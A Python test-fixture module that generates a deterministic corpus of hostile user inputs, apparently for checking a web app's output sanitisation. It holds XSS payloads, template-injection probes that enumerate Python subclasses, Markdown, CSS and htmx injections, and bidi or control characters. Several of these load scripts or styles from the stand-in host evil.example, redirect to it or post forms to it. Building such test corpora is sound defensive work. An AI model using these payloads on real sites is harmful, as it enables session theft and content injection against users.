"""Hostile words, made from tables: vectors x what stands around them x how they are written. The same each time.

Script, templates, Markdown, SVG, CSS, htmx, characters that steer. Each is what a citizen could send in a message.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

FOREIGN = "evil.example"
"""No page may ask this host for anything."""

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style>@import url(//evil.example/a.css)</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/a.css';</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>",
    "<div hx-get=/people hx-trigger=load hx-swap=outerHTML>",
    "<div data-hx-post=/logout data-hx-trigger=load>",
    "<div hx-on::load=alert(1) hx-on:load=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<button popovertarget=areas formaction=javascript:alert(1)>x</button>",
    "<dialog open onclose=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{{ config }}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{name} {0.__class__} %(name)s %s {{{{",
    "[x](javascript:alert(1)) ![x](//evil.example/x.png)",
    "[x]: javascript:alert(1)\n<http://evil.example/>\n# x\n```\n</code>",
    "**<img src=x onerror=alert(1)>** _//evil.example_ https://evil.example/a?b=<script>",
    "expression(alert(1)) behavior:url(#x) -moz-binding:url(//evil.example)",
    "}*{background:url(//evil.example/x)}/*",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202egnp.exe\u202c \u2066<img src=x onerror=alert(1)>\u2069 \u200b\u200d\ufeff\u061c",
    "\u202d\u202b\u2067\u2068 <b>\u200f\u200e</b>",
    "a\x00b\x08\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029<script>alert(1)</script>",
    "Z\u0335\u0321\u0327" * 20 + "<svg onload=alert(1)>",
)
AROUND = (
    ("", ""), ('">', ""), ("'>", ""), ("</textarea>", "<textarea>"), ("</title>", ""), ("</script>", "<script>"),
    ("--></style>", "<!--"), ('" onmouseover=alert(1) x="', ""), ("`${", "}`"), ("\\\");", "//"), ("]]>", ""),
)  # fmt: skip
WRITTEN: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    lambda text: quote(text),
    html.escape,
    lambda text: "".join(f"&#x{ord(sign):x};" for sign in text),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "\n\t/"),
    lambda text: text.replace("<", "<\x00").replace("alert", "al\u200bert"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
)


def payloads() -> Iterator[str]:
    """All of them."""
    for vector, (before, after), write in product(VECTORS, AROUND, WRITTEN):
        yield before + write(vector) + after


def some(number: int) -> list[str]:
    """So many, every vector as it is among them."""
    rest = sorted(set(payloads()) - set(VECTORS))
    return [*VECTORS, *random.Random(6).sample(rest, number - len(VECTORS))]
